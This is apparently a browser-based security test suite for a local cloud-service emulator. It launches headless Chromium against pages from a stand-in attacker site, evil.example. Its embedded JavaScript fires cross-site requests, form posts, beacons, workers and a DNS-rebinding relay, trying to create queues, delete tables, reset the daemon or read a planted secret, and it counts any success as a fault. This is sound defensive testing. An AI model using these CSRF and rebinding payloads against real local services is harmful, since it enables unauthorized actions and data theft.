"""Hostile pages in a real browser (Debian's package chromium, headless). The attacker's site is evil.example; what it wants is to run
any call on the emulator that the user has running, or to read anything of it. Pages of the user's own development server, on
localhost, must be able to do all of it.

The attacks go to every name and address that the endpoint can be reached by from a page; also to addresses that are no loopback
addresses, to which browsers send fewer headers. Rebinding is done by a server that first serves the attacker's page and then hands its
connections on to the emulator: to the browser it is one origin."""
import http.server
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "clients"))
from support import Api, Daemon, create_table  # noqa: E402

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--disable-popup-blocking"]
SECRET = "the-secret-word"

# Every way that a page has of sending a request, for one address of the endpoint. `read` is called with whatever came back.
ATTACKS = """
const wait = ms => new Promise(done => setTimeout(done, ms));
const results = [];
let tries = 0;
function note(name, text) { tries++; if (text && text.includes('SECRET')) results.push('read ' + name); }
async function fetched(name, url, options) {
  try { note(name, await (await fetch(url, options)).text()); } catch (e) { note(name); }
}
function element(tag, attributes, parent) {
  tries++;
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  (parent || document.body).append(made);
  return made;
}
function form(base, method, type, fields, target) {
  const made = element('form', {action: base, method: method, enctype: type, target: target});
  for (const [name, value] of Object.entries(fields)) element('input', {name: name, value: value}, made);
  made.submit();
}
let serial = 0;
const queue = () => 'Action=CreateQueue&QueueName=evil' + serial++;
async function attack(base) {
  for (const policy of ['no-referrer', 'unsafe-url', 'origin']) {
    element('img', {src: base + '/?' + queue(), referrerpolicy: policy});
    element('script', {src: base + '/?' + queue(), referrerpolicy: policy});
    element('link', {rel: 'stylesheet', href: base + '/?' + queue(), referrerpolicy: policy});
    element('link', {rel: 'prefetch', href: base + '/?' + queue(), referrerpolicy: policy});
    element('iframe', {src: base + '/?' + queue(), referrerpolicy: policy});
    element('iframe', {src: base + '/photos/page.html', referrerpolicy: policy});
    element('video', {src: base + '/?' + queue(), referrerpolicy: policy});
    element('object', {data: base + '/?' + queue()});
    element('embed', {src: base + '/?' + queue()});
    await fetched('no-cors get', base + '/?' + queue(), {mode: 'no-cors', referrerPolicy: policy});
    await fetched('no-cors form', base + '/', {mode: 'no-cors', method: 'POST', referrerPolicy: policy,
                  headers: {'Content-Type': 'application/x-www-form-urlencoded'}, body: queue()});
    await fetched('cors get', base + '/photos/note', {referrerPolicy: policy});
    await fetched('cors get of control', base + '/_cloudemu/clock', {referrerPolicy: policy});
    await fetched('no-cors reset', base + '/_cloudemu/reset', {mode: 'no-cors', method: 'POST', referrerPolicy: policy});
    await fetched('put', base + '/photos/evil.html', {method: 'PUT', body: '<b>evil</b>', referrerPolicy: policy});
    for (const call of ['DynamoDB_20120810.Scan', 'DynamoDB_20120810.DeleteTable', 'AmazonSQS.CreateQueue'])
      await fetched(call, base + '/', {method: 'POST', referrerPolicy: policy, headers: {'X-Amz-Target': call,
                    'Content-Type': 'application/x-amz-json-1.0', 'X-Amz-Date': '20261123T040000Z', 'Authorization': SIGNATURE},
                    body: JSON.stringify({TableName: 'load', QueueName: 'evil' + serial++})});
    await fetched('delete', base + '/photos/note', {method: 'DELETE', referrerPolicy: policy});
    const a = element('a', {href: base + '/', ping: base + '/?' + queue(), referrerpolicy: policy, target: 'nowhere'});
    a.click();
  }
  element('div', {style: 'background: url("' + base + '/?' + queue() + '")'}).textContent = 'x';
  element('iframe', {sandbox: 'allow-scripts allow-forms', srcdoc: '<form method=post action="' + base +
          '/"><input name=Action value=CreateQueue><input name=QueueName value=evil' + serial++ + '></form><script>document.forms[0].submit()<' +
          '/script>'});
  element('iframe', {src: 'data:text/html,<img src="' + base + '/?' + queue() + '">'});
  element('iframe', {srcdoc: '<meta http-equiv=refresh content="0;url=' + base + '/?' + queue() + '">'});
  for (const [method, type] of [['get', ''], ['post', 'application/x-www-form-urlencoded'], ['post', 'multipart/form-data'],
                                ['post', 'text/plain']]) {
    const frame = 'frame' + serial++;
    element('iframe', {name: frame});
    form(base + '/', method, type, {Action: 'CreateQueue', QueueName: 'evil' + serial++}, frame);
    const upload = 'frame' + serial++;
    element('iframe', {name: upload});
    form(base + '/photos', method, type, {key: 'evil.html', file: 'evil'}, upload);
  }
  navigator.sendBeacon(base + '/', new Blob([queue()], {type: 'application/x-www-form-urlencoded'}));
  tries++;
  for (const opened of [window.open(base + '/?' + queue()), window.open(base + '/?' + queue(), '', 'noreferrer')]) tries++;
  try { new WebSocket(base.replace('http', 'ws') + '/?' + queue()); } catch (e) {}
  try { new EventSource(base + '/?' + queue()); } catch (e) {}
  const worker = new Worker(URL.createObjectURL(new Blob(['fetch("' + base + '/?' + queue() + '", {mode: "no-cors"})'])));
  tries += 3;
}
addEventListener('message', event => { if (String(event.data).includes('SECRET')) results.push('read through a frame'); });
""".replace("'SECRET'", repr(SECRET)).replace("SIGNATURE", json.dumps(
    "AWS4-HMAC-SHA256 Credential=test/20261123/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=" + "0" * 64))

# An object in a bucket, as an application under test may have stored it. From its own origin it tries to command the daemon.
PAGE_IN_BUCKET = """<script>
(async () => {
  for (const policy of ['no-referrer', 'unsafe-url'])
    for (const base of [''].concat(BASES))
      for (const [path, method] of [['/_cloudemu/reset', 'POST'], ['/_cloudemu/clock', 'GET'], ['/_cloudemu/clock', 'POST']])
        for (const mode of ['cors', 'no-cors']) {
          let text = '';
          try {
            const reply = await fetch(base + path, {method, mode, referrerPolicy: policy, body: method == 'POST' ? '{"advance":60}' : undefined});
            text = reply.status + await reply.text();
          } catch (e) {}
          if (text.startsWith('200')) parent.postMessage('commanded ' + base + path, '*');
        }
  const note = await (await fetch('/photos/note')).text();
  parent.postMessage('looked ' + note, '*');
})();
</script>"""


class Site:
    """A web server for pages; a page reports by POST /report."""

    def __init__(self, address="127.0.0.1", port=0):
        site = self
        self.pages, self.reports, self.arrived = {}, [], threading.Event()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = site.pages.get(self.path.split("?")[0], "").encode()
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                site.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(204)
                self.end_headers()
                site.arrived.set()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer((address, port), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def page(self, path, script):
        self.pages[path] = "<!doctype html><body><script>%s</script></body>" % script


class Rebound:
    """A name that changes its address: the page comes from the attacker's site, all other connections go to the emulator."""

    def __init__(self, port, site_port):
        self.listener = socket.create_server(("127.0.0.2", port))
        self.port, self.target = port, site_port
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            client, _ = self.listener.accept()
            threading.Thread(target=self.carry, args=(client,), daemon=True).start()

    def carry(self, client):
        first = client.recv(65536)
        home = first.startswith(b"GET /rebind.html")
        server = socket.create_connection(("127.0.0.1", self.target if home else self.port))
        server.sendall(first)

        def pump(source, sink):
            try:
                while True:
                    piece = source.recv(65536)
                    if not piece:
                        break
                    sink.sendall(piece)
                    if home:
                        break
            except OSError:
                pass

        back = threading.Thread(target=pump, args=(server, client), daemon=True)
        back.start()
        if not home:
            pump(client, server)
        back.join(10)
        client.close()
        server.close()


def browse(site, url, timeout_s=90):
    """Opens a page and gives what it reports."""
    site.arrived.clear()
    with tempfile.TemporaryDirectory(prefix="cloudemu-browser-", ignore_cleanup_errors=True) as profile:
        rules = "MAP evil.example 127.0.0.1, MAP rebind.example 127.0.0.2"
        process = subprocess.Popen([CHROMIUM, *FLAGS, "--user-data-dir=" + profile, "--host-resolver-rules=" + rules, "--remote-debugging-port=0",
                                    url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            if not site.arrived.wait(timeout_s):
                return None
            time.sleep(1)  # for requests that nobody waits for
            return site.reports[-1]
        finally:
            process.terminate()
            try:
                process.wait(timeout=10)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()


class Emulator:
    """A daemon with something to steal, and a look at whether anybody touched it."""

    def __init__(self, flags=()):
        self.daemon = Daemon(flags=flags)
        self.port = self.daemon.port
        api = Api(self.port)
        api.call("PUT", "/photos")
        api.call("PUT", "/photos/note", SECRET.encode())
        create_table(api)
        api.dynamodb("PutItem", {"TableName": "load", "Item": {"pk": {"S": SECRET}}})
        api.sqs("CreateQueue", {"QueueName": "jobs"})
        api.close()

    def put_page(self, bases):
        api = Api(self.port)
        page = PAGE_IN_BUCKET.replace("BASES", json.dumps(bases))
        api.call("PUT", "/photos/page.html", page.encode(), {"Content-Type": "text/html"})
        api.close()

    def sequence(self):
        api = Api(self.port)
        status, body = api.call("GET", "/_cloudemu/health")
        api.close()
        return json.loads(body)["sequence"]


def own_address():
    """An address of this machine that is not a loopback one, or None."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
            return probe.getsockname()[0]
        except OSError:
            return None


faults, tries = [], 0


def check(what, emulator, before, report, expected=()):
    global tries
    if report is None:
        faults.append(what + ": the page never reported")
        return
    tries += report["tries"]
    faults.extend("%s: %s" % (what, result) for result in report["results"] if result not in expected)
    missing = [result for result in expected if result not in report["results"]]
    faults.extend("%s: missing: %s" % (what, result) for result in missing)
    made = emulator.sequence() - before
    if made:
        faults.append("%s: made %d events" % (what, made))
    print("%-40s %4d tries, %d events, %d faults so far" % (what, report["tries"], made, len(faults)), flush=True)


def strangers(emulator, hosts):
    evil = Site()
    bases = ["http://%s:%d" % (host, emulator.port) for host in hosts]
    emulator.put_page(bases)
    for base in bases:
        evil.page("/attack.html", ATTACKS + """
          (async () => { await attack(%s); await wait(2500);
            await fetch('/report', {method: 'POST', body: JSON.stringify({tries, results})}); })();""" % json.dumps(base))
        before = emulator.sequence()
        check("a page of evil.example at " + base, emulator, before, browse(evil, "http://evil.example:%d/attack.html" % evil.port))


def rebinding(emulator):
    evil = Site()
    Rebound(emulator.port, evil.port)
    evil.page("/rebind.html", ATTACKS + """
      (async () => { await attack(location.origin); await wait(2500);
        await fetch('http://evil.example:%d/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify({tries, results})});
      })();""" % evil.port)
    before = emulator.sequence()
    check("a name that was bound anew", emulator, before, browse(evil, "http://rebind.example:%d/rebind.html" % emulator.port))


def frames(emulator):
    """The user's development server frames an object. It may be seen, and see its own origin, but not command."""
    local = Site()
    bases = ["http://%s:%d" % (host, emulator.port) for host in ("localhost", "127.0.0.1")]
    emulator.put_page(bases)
    for base in bases:
        local.page("/frame.html", """
          const results = [], wait = ms => new Promise(done => setTimeout(done, ms));
          addEventListener('message', event => results.push(String(event.data)));
          const frame = document.createElement('iframe');
          frame.src = %s; document.body.append(frame);
          (async () => { await wait(6000);
            await fetch('/report', {method: 'POST', body: JSON.stringify({tries: 37, results})}); })();""" % json.dumps(base + "/photos/page.html"))
        before = emulator.sequence()
        check("an object framed by localhost at " + base, emulator, before, browse(local, "http://localhost:%d/frame.html" % local.port),
              ["looked " + SECRET])


def developers(emulator):
    """What must go on working: the user's own pages, with all methods and headers of SDKs."""
    local = Site()
    base = "http://localhost:%d" % emulator.port
    local.page("/app.html", """
      const results = [], base = %s;
      const headers = {'Authorization': %s, 'X-Amz-Date': '20261123T040000Z', 'x-amz-user-agent': 'aws-sdk-js/3'};
      async function did(name, path, method, more, body, want, service) {
        try {
          const reply = await fetch((service || base) + path, {method, headers: {...headers, ...more}, body});
          const text = await reply.text();
          if (reply.status != 200 || !(text + reply.headers.get('etag')).includes(want)) results.push(name + ': ' + reply.status + text);
        } catch (e) { results.push(name + ': ' + e); }
      }
      (async () => {
        const json = {'Content-Type': 'application/x-amz-json-1.0'};
        await did('put', '/photos/mine', 'PUT', {'x-amz-meta-a': 'b', 'Content-Type': 'text/plain'}, 'meow', '"');
        await did('get', '/photos/mine', 'GET', {}, undefined, 'meow');
        await did('list', '/photos?list-type=2', 'GET', {}, undefined, 'mine');
        await did('scan', '/', 'POST', {...json, 'X-Amz-Target': 'DynamoDB_20120810.Scan'}, '{"TableName":"load"}', 'Items');
        await did('scan by name', '/', 'POST', {...json, 'X-Amz-Target': 'DynamoDB_20120810.Scan'}, '{"TableName":"load"}', 'Items',
                  base.replace('localhost', 'dynamodb.us-east-1.localhost'));
        await did('queues', '/', 'POST', {...json, 'X-Amz-Target': 'AmazonSQS.ListQueues'}, '{}', 'jobs');
        await did('query', '/', 'POST', {'Content-Type': 'application/x-www-form-urlencoded',
                  'Authorization': headers.Authorization.replace('s3', 'sqs')}, 'Action=ListQueues', 'jobs',
                  base.replace('localhost', '127.0.0.1'));
        await did('clock', '/_cloudemu/clock', 'GET', {}, undefined, 'frozen');
        await did('reset', '/_cloudemu/reset', 'POST', json, '{}', 'reset');
        await fetch('/report', {method: 'POST', body: JSON.stringify({tries: 9, results})});
      })();""" % (json.dumps(base), json.dumps(
          "AWS4-HMAC-SHA256 Credential=test/20261123/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=" + "0" * 64)))
    before = emulator.sequence()
    report = browse(local, "http://localhost:%d/app.html" % local.port)
    check("the user's own page", emulator, before + 2, report)  # an object, a reset


def main():
    if not CHROMIUM:
        print("SKIPPED: chromium is not installed")
        return 0
    inside = Emulator()
    strangers(inside, ["localhost", "127.0.0.1", "dynamodb.us-east-1.localhost", "sqs.us-east-1.localhost"])
    rebinding(inside)
    frames(inside)
    developers(inside)
    address = own_address()
    if address:
        outside = Emulator(["--host", "0.0.0.0"])
        strangers(outside, [address])
        outside.daemon.stop()
    inside.daemon.stop()
    for fault in faults:
        print("FAULT", fault)
    print("browser: %d tries, %d faults" % (tries, len(faults)))
    return 1 if faults else 0


if __name__ == "__main__":
    sys.exit(main())
